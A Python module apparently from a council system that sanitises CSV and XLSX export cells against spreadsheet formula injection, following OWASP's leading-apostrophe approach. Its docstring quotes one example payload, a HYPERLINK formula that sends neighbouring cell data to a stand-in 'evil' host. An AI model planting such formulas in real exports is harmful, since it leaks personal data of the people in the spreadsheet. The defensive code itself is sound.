"""Cells for CSV and XLSX exports that a spreadsheet will show as text, never run as formulas.

A requester's name, an e-mail sender's name or a tag is typed by someone outside the council.
Excel and LibreOffice read a CSV field, or an XLSX cell a user edits, that begins with
``= + - @`` (or a TAB or CR before one) as a formula: ``=HYPERLINK("http://evil/?"&A1)``
would send the neighbouring personal data away when clicked. Following OWASP, every text
value that begins with one of those characters gets a leading apostrophe, which the
spreadsheet shows but does not evaluate. Numbers, dates and None are left as they are: a
negative number is a number, not a formula.
"""
from __future__ import annotations

import csv
import re
from collections.abc import Iterable

#: First characters a spreadsheet may take for a formula (with the full-width forms some
#: input methods produce, which Excel also accepts).
FORMULA_START = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
#: Characters a spreadsheet may skip before it looks for a formula.
_LEADING_BLANK = re.compile(r"^[\s\x00-\x1f\x7f]+")
#: Control characters XLSX (XML 1.0) cannot hold; TAB, LF and CR are allowed.
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def safe_cell(value):
    """The value to write into a CSV field or an XLSX cell: text that could start a formula
    gets a leading ``'``; anything that is not text is returned unchanged."""
    if not isinstance(value, str) or not value:
        return value
    if value[0] in FORMULA_START:
        return "'" + value
    rest = _LEADING_BLANK.sub("", value)
    if rest and rest[0] in FORMULA_START:
        return "'" + value
    return value


def safe_row(values: Iterable) -> list:
    """A CSV row with every text field neutralised."""
    return [safe_cell(v) for v in values]


def xlsx_value(value):
    """A value for an XLSX cell: control characters XML cannot carry removed (rows stored
    before input was filtered must still export), then neutralised like a CSV field."""
    if isinstance(value, str):
        value = _XML_ILLEGAL.sub("", value)
    return safe_cell(value)


#: The field separator Excel expects in a Ukrainian (and most European) locale, where the
#: comma is the decimal separator: files for people use it; files for programs keep ",".
EXCEL_DELIMITER = ";"
#: Makes Excel read the file as UTF-8 (without it, Cyrillic comes out as mojibake).
BOM = "\ufeff"


class SafeCsvWriter:
    """``csv.writer(out, delimiter=...)`` whose every row goes through :func:`safe_row`."""

    def __init__(self, out, delimiter: str = ","):
        self._writer = csv.writer(out, delimiter=delimiter)

    def writerow(self, values: Iterable):
        return self._writer.writerow(safe_row(values))

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)
